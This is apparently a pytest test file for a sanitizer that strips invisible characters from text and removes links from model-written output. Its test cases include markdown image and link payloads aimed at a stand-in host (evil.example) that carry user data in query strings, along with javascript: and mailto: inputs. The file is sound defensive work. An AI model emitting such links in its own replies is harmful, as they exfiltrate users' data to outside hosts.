"""Texts as they may be stored and shown."""

from typing import Any

import pytest

from shared.ai.text import TooDeepError, readable, readable_document, without_links

pytestmark = pytest.mark.quick


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("a\u0000b", "ab"),
        ("a\ud800b", "ab"),
        ("a\u202eb\u202c", "ab"),
        ("a\u200bb", "ab"),
        ("a\r\nb\tc", "a\nb\tc"),
        ("e\u0301", "\u00e9"),
        ("\U0001f469\u200d\U0001f680", "\U0001f469\u200d\U0001f680"),
    ],
)
def test_what_cant_be_seen_is_left_out(given: str, kept: str) -> None:
    assert readable(given) == kept


def test_texts_of_a_document_become_readable_and_nothing_else_changes() -> None:
    document: dict[str, Any] = {"a\u0000": ["b\u202e", 1, 2.5, None, True, {"c": "d\ud800"}]}
    assert readable_document(document, 3) == {"a": ["b", 1, 2.5, None, True, {"c": "d"}]}


def test_a_document_too_deep_is_refused() -> None:
    with pytest.raises(TooDeepError):
        readable_document([[[["x"]]]], 3)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("![chart](https://evil.example/?d=70kg)", "chart"),
        ("[your plan](https://evil.example)", "your plan"),
        ("![a]( //evil.example 'title')", "a"),
        ("![a][1]\n\n[1]: https://evil.example/x", "a\n\n[1]: …"),
        ("![a[b]](https://evil.example/x) and more", "![a[b]](… and more"),
        ("<img src=https://evil.example/x>Hi", "Hi"),
        ("<https://evil.example/x>", "<…>"),
        ("<<b>img src=//evil.example>", "<img src=…>"),
        ("See https://evil.example/?w=70, then go", "See … then go"),
        ("HTTPS://evil.example", "…"),
        ("www.evil.example/x", "…"),
        ("javascript:alert(1)", "…"),
        ("mailto:evil@evil.example?body=70kg", "…"),
        # Nothing of these is an address.
        ("Rest 2:30, RPE < 8 and > 6, and/or 5/3/1", "Rest 2:30, RPE < 8 and > 6, and/or 5/3/1"),
        ("Do this: squat [3 sets] (5 reps)", "Do this: squat [3 sets] (5 reps)"),
        ("**Bold**, `code`\n- a list", "**Bold**, `code`\n- a list"),
    ],
)
def test_no_address_is_left_in_what_a_model_wrote(given: str, kept: str) -> None:
    assert without_links(given) == kept
